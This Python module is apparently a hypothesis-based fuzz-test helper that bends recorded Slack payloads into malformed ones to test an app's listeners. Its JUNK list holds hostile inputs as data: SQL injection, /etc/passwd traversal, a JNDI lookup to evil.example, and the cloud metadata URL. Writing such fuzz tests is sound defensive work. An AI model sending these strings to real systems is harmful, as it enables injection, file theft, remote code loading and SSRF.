"""Payloads as no Slack sends them, made from those it did send: hypothesis chooses what is bent, and how."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

from handlers.listeners import Kind
from tests.handlers.story import Json

Path = tuple[str | int, ...]

MANY = settings(
    deadline=None,
    database=None,
    phases=[
        Phase.generate
    ],  # one payload changes what the next one meets, so none can be made simpler by itself
    suppress_health_check=list(HealthCheck),
)

DEEP = "@deep@"
"""Stands for a value that lies so deep that Python could not write it down."""
DEPTHS = (30, 800, 30_000)
JUNK: tuple[object, ...] = (
    None, True, False, 0, -1, 10**400, 1e308, float("nan"), float("inf"), "", " ", "0", "-1", "null", "\x00", "a\x00b",
    "\ud800", "\udfff\ud83d", "\u202e\u2066x", "\u200b", "<!channel>", "'; DROP TABLE requests; --", "{}", "[]",
    "../../etc/passwd", "%s%n%x", "${jndi:ldap://evil.example}", "{0.__class__}", "http://169.254.169.254/",
    "A" * 100_000, "漢" * 5_000, [], {}, [[]], [None], {"": None}, {"id": None}, {"id": ["U0BEN"]},
    {"value": {"value": 1}},    {"__class__": "Person", "rights": ["approve"]}, ["approve"] * 2_000, DEEP,
)  # fmt: skip

BASE = {
    Kind.COMMAND: "command",
    Kind.ACTION: "block_actions",
    Kind.OPTIONS: "block_suggestion",
    Kind.VIEW: "view_submission",
    Kind.SHORTCUT: "shortcut",
    Kind.MESSAGE_SHORTCUT: "message_action",
    Kind.EVENT: "file_shared",
}
"""Which payload is bent for each kind of listener."""


@dataclass(frozen=True)
class Bent:
    """A payload, and what is done to its text before it is sent: cut off there, or a byte put in."""

    kind: Kind
    name: str
    payload: Json
    depth: int
    cut: int | None = None

    def __repr__(self) -> str:
        return (
            f"Bent({self.kind.name} {self.name} depth={self.depth} cut={self.cut} {str(self.payload)[:3000]})"
        )

    def _repr_pretty_(self, printer: Any, _cycle: bool) -> None:
        printer.text(f"{self.kind.name} {self.name}")  # hypothesis would write down all of it, each time

    @property
    def text(self) -> str:
        deep = "[" * self.depth + "]" * self.depth
        text = json.dumps(self.payload).replace(f'"{DEEP}"', deep)
        return text if self.cut is None else text[: self.cut % len(text)]

    @property
    def read(self) -> Json:
        """What whoever reads it finds in it; nothing where it cannot be read."""
        try:
            found = json.loads(self.text)
        except (ValueError, RecursionError):
            return {}
        return found if isinstance(found, dict) else {}

    @property
    def body(self) -> tuple[bytes, str]:
        """How it goes over HTTP, and as what."""
        form = "application/x-www-form-urlencoded"
        if self.kind is Kind.EVENT:
            return self.text.encode(), "application/json"
        if self.kind is Kind.COMMAND:
            flat = {key: v if isinstance(v, str) else json.dumps(v) for key, v in self.payload.items()}
            return urlencode(flat, errors="surrogatepass").encode(), form
        return urlencode({"payload": self.text}).encode(), form


def for_listener(
    kind: Kind, name: str, sent: Mapping[str, Json], *, by: str, about: object, state: Json
) -> Json:
    """The payload that reaches this listener: by that person, about that id, with these fields filled in."""
    base = sent.get(name) if kind is Kind.EVENT else None
    payload = copy.deepcopy(base or sent[BASE[kind]])
    if kind is Kind.COMMAND:
        return payload | {"command": name, "user_id": by, "text": about}
    if kind is Kind.EVENT:
        payload["event"]["user" if "user" in payload["event"] else "user_id"] = by
        return payload
    payload["user"] = {"id": by, "name": by}
    if kind is Kind.ACTION:
        payload["actions"][0] |= {"action_id": name, "value": about, "selected_option": {"value": about}}
        payload["view"] = {"id": "V1", "private_metadata": about, "state": {"values": state}, "blocks": []}
    elif kind is Kind.OPTIONS:
        payload |= {"action_id": name, "value": "con"}
        payload["view"]["private_metadata"] = about
    elif kind is Kind.VIEW:
        payload["view"] |= {"callback_id": name, "private_metadata": about, "state": {"values": state}}
    else:
        payload["callback_id"] = name
    return payload


def filled_in(names: list[str], value: st.SearchStrategy[object]) -> st.SearchStrategy[Json]:
    """What a form's state may look like: every input of ours, in every shape an input has."""
    shape = st.one_of(
        st.fixed_dictionaries({"selected_option": st.fixed_dictionaries({"value": value})}),
        st.fixed_dictionaries({"type": st.just("plain_text_input"), "value": value}),
        st.fixed_dictionaries({"type": st.just("datepicker"), "selected_date": value}),
        st.fixed_dictionaries({"type": st.just("users_select"), "selected_user": value}),
        st.just({"type": "checkboxes", "selected_options": [{"value": "a"}, {"value": None}]}),
        st.none(),
    )  # fmt: skip
    return st.dictionaries(st.sampled_from(names), shape, max_size=8).map(
        lambda chosen: {name: {name: held} for name, held in chosen.items()}
    )


@dataclass(frozen=True)
class Workshop:
    """Makes bent payloads of what one office was sent."""

    sent: Mapping[str, Json]
    listeners: list[tuple[Kind, str]]
    people: list[str]
    about: list[object]
    """Ids, and whatever else a button may be about, besides `JUNK`."""
    inputs: list[str]

    @property
    def payloads(self) -> st.SearchStrategy[Bent]:
        """Payloads of any of the listeners, up to four things in each bent."""
        return _drawn(self)


@st.composite
def _drawn(draw: st.DrawFn, of: Workshop) -> Bent:
    kind, name = draw(st.sampled_from(of.listeners))
    values = st.sampled_from([*of.about, *JUNK])
    payload = for_listener(
        kind,
        name,
        of.sent,
        by=draw(st.sampled_from(of.people)),
        about=draw(values),
        state=draw(filled_in(of.inputs, values)),
    )
    for _ in range(draw(st.integers(0, 4))):
        payload = draw(bend_somewhere(payload, of.about))
    return Bent(
        kind,
        name,
        payload,
        depth=draw(st.sampled_from(DEPTHS)),
        cut=draw(st.sampled_from([*[None] * 40, 1, 20, 300, 4_000])),
    )


@st.composite
def bend_somewhere(draw: st.DrawFn, payload: Json, about: Sequence[object]) -> Json:
    """The same, but for one place in it: `about` or `JUNK` stands there, or nothing, or another type."""
    places = list(_places(payload))
    if not places:
        return payload
    path = places[draw(st.integers(0, len(places) - 1))]
    return _bend(draw, payload, path, st.sampled_from([*about, *JUNK]))


def _bend(draw: st.DrawFn, payload: Json, path: Path, values: st.SearchStrategy[Any]) -> Json:
    bent = copy.deepcopy(payload)
    holder: Any = bent
    for step in path[:-1]:
        holder = holder[step]
    last = path[-1]
    how = draw(
        st.sampled_from(["drop", "other", "other", "as text", "as number", "in a list", "in an object"])
    )
    if how == "drop":
        del holder[last]
    elif how == "other":
        holder[last] = draw(values)
    elif how == "as text":
        holder[last] = str(holder[last])
    elif how == "as number":
        holder[last] = len(str(holder[last]))
    elif how == "in a list":
        holder[last] = [holder[last]]
    else:
        holder[last] = {"id": holder[last], "value": holder[last]}
    return bent


def _places(node: Any, path: Path = ()) -> Iterator[Path]:
    """Every place in it; of what was drawn, which nobody reads, only the uppermost."""
    items: Any = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, value in items:
        yield (*path, key)
        if key != "blocks" and len(path) < 7 and not (isinstance(value, list) and len(value) > 20):
            yield from _places(value, (*path, key))
